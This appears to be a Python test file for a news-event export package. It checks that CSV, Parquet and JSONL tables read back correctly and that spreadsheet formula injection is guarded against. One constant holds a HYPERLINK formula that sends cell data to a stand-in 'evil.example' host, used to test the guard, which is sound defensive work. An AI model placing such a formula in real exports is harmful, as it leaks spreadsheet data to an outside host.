"""Events as tables: pandas, polars and duckdb read them, and CSV gives back what went in."""

import io
import json
from dataclasses import replace
from pathlib import Path

import duckdb
import pandas
import polars
import pyarrow.parquet
import pytest
from hypothesis import given
from hypothesis import strategies as st

from dateline.errors import InputError
from dateline.exports import COLUMNS, event_rows, make_files, read_csv
from dateline.exports.tables import _cell, _value, guarded
from dateline.views import Filters, View
from tests.exports.moments import moment
from tests.tellings import NORLAND, line, report

NAMES = [column.name for column in COLUMNS]
TEXTS = next(column for column in COLUMNS if column.kind == "texts")
NASTY = '=HYPERLINK("http://evil.example/?"&A1)'


def test_pandas_polars_and_duckdb_read_the_csv(view: View, tmp_path: Path) -> None:
    path = tmp_path / "events.csv"
    path.write_bytes(make_files(view, "csv")["events.csv"])
    events = view.find_events()
    by_pandas = pandas.read_csv(path, dtype={"cameo": str})
    by_polars = polars.read_csv(path, schema_overrides={"cameo": polars.String}, infer_schema_length=None)
    by_duckdb = duckdb.sql(f"select event, origins from read_csv('{path}')").fetchall()
    assert list(by_pandas.columns) == by_polars.columns == NAMES
    assert list(by_pandas["cameo"]) == list(by_polars["cameo"]) == [event.cameo for event in events]
    assert by_duckdb == [(event.id, event.origins) for event in events]
    assert by_pandas["score"].dtype == "float64"


def test_pandas_polars_and_duckdb_read_the_parquet(view: View, tmp_path: Path) -> None:
    path = tmp_path / "events.parquet"
    path.write_bytes(make_files(view, "parquet")["events.parquet"])
    first = next(event_rows(view))
    assert list(polars.read_parquet(path)["actors"][0]) == list(first["actors"])
    assert pandas.read_parquet(path)["day"][0] == first["day"]
    assert duckdb.sql(f"select event, day from '{path}' limit 1").fetchall() == [
        (first["event"], first["day"])
    ]
    file = pyarrow.parquet.ParquetFile(path)
    assert file.metadata.row_group(0).column(0).compression == "ZSTD"
    assert {field.name: field.metadata[b"holds"].decode() for field in file.schema_arrow} == {
        column.name: column.holds for column in COLUMNS
    }


def test_csv_gives_back_the_rows(view: View) -> None:
    assert list(read_csv(make_files(view, "csv")["events.csv"])) == list(event_rows(view))


def test_parquet_gives_back_the_rows(view: View) -> None:
    table = pyarrow.parquet.read_table(io.BytesIO(make_files(view, "parquet")["events.parquet"]))
    lists = [column.name for column in COLUMNS if column.kind == "texts"]
    rows = [{**row, **{name: tuple(row[name]) for name in lists}} for row in table.to_pylist()]
    assert rows == list(event_rows(view))


@given(st.lists(st.none() | st.text(st.characters(codec="utf-8", exclude_characters="\r\n\t "), min_size=1)))
def test_a_list_in_a_cell_comes_back(items: list[str | None]) -> None:
    assert _value(_cell(tuple(items), TEXTS), TEXTS) == tuple(items)


@pytest.mark.parametrize("words", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1"])
def test_a_cell_that_may_be_a_formula_is_guarded(words: str) -> None:
    assert guarded(words) == f"'{words}"


def test_words_of_strangers_cannot_become_a_formula() -> None:
    party = replace(NORLAND, name=NASTY, code="=1")
    told = report(line(f"{NASTY} shelled Elm.", "shelled", actors=(party,)), outlet="@outlet", title="=1")
    view = moment(told)
    cells = pandas.read_csv(io.BytesIO(make_files(view, "csv")["events.csv"]), dtype=str).iloc[0]
    assert cells["actors"] == f"'{NASTY}"
    assert cells["score"] == "-9"
    assert not any(str(cell).startswith(("=", "+", "@")) for cell in cells)
    (row,) = read_csv(make_files(view, "csv")["events.csv"])
    assert row["actors"] == (NASTY,)
    acled = pandas.read_csv(io.BytesIO(make_files(view, "acled")["acled.csv"]), dtype=str).iloc[0]
    assert (acled["actor1"], acled["source"]) == (f"'{NASTY}", "'@outlet")


def test_a_line_of_json_has_every_telling(view: View) -> None:
    lines = make_files(view, "jsonl")["events.jsonl"].decode("utf-8").splitlines()
    events = view.find_events()
    assert len(lines) == len(events)
    for text, event in zip(lines, events, strict=True):
        form = json.loads(text)
        assert list(form) == [*NAMES, "tellings"]
        assert [telling["mention"] for telling in form["tellings"]] == [t.told.id for t in event.tellings]


def test_filters_choose_the_rows(view: View) -> None:
    filters = Filters(types=("THREATEN",))
    rows = list(event_rows(view, filters=filters))
    assert {row["type"] for row in rows} == {"THREATEN"}
    assert [row["event"] for row in rows] == [event.id for event in view.find_events(filters)]


def test_another_table_is_refused() -> None:
    with pytest.raises(InputError, match=r"other\.csv: its columns are not those"):
        list(read_csv(b"a,b\r\n1,2\r\n", name="other.csv"))
